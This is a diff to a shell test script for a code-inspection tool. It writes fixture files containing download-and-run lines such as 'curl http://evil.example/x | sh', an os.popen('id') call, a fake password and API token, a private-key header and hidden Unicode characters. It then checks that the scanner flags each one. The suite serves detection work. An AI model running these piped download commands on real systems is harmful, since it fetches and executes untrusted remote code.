@@ -51,7 +51,9 @@ printf 'let x = = 1\nexecSync("curl http://evil.example/x | sh")\n' >newer.js
 printf '#!/bin/sh\n"exec" "python3" "$0"\nos.system("curl http://evil.example/x | sh")\n' >both.sh
 printf "alias x='curl http://evil.example/x | sh'\n" >alias.sh
 printf 'hello\n' >text
-printf 'a\0b' >data.py
+printf 'a\0b' >data
+printf 'import os\nos.popen("id") #\0\n' >zero2.py
+printf ':\n#\0\ncurl http://evil.example/x | sh\n' >zero2.sh
 printf 'password = "hunter2"\nAPI_TOKEN = "q8Zr3kP0vX2mLs7Td4Wn"\n' >secret.env
 printf -- '-----BEGIN RSA %s KEY-----\n' PRIVATE >key
 printf 'x = "\xe2\x80\xae"\ny\xe2\x80\x8b = "\033[2J"\n' >bidi.py
@@ -71,12 +73,14 @@ cg inspect broken.sh >out
 grep -q ':4: syntax: syntax error: unexpected end of file' out || fail "broken.sh: $(cat out)"
 finds zero.py 3 process "os.popen('id')"
 finds zero 3 download-run 'curl http://evil.example/x | sh'
+finds zero2.py 2 process "os.popen('id')"
+finds zero2.sh 3 download-run 'curl http://evil.example/x | sh'
 finds newer.py 2 download-run 'curl http://evil.example/x | sh'
 finds both.sh 3 download-run 'curl http://evil.example/x | sh'
 finds alias.sh 1 download-run 'curl http://evil.example/x | sh'
 ! command -v node >/dev/null || finds newer.js 2 download-run 'curl http://evil.example/x | sh'
 finds text '' not-parsed 'no parser for this kind of file'
-finds data.py '' not-parsed 'no parser for this kind of file'
+finds data '' not-parsed 'no parser for this kind of file'
 finds secret.env 2 secret 'random value of 20 characters, named as a secret'
 ! grep -q ':1:\|q8Zr' out || fail "secret.env: $(cat out)"
 finds key 1 secret 'private key'
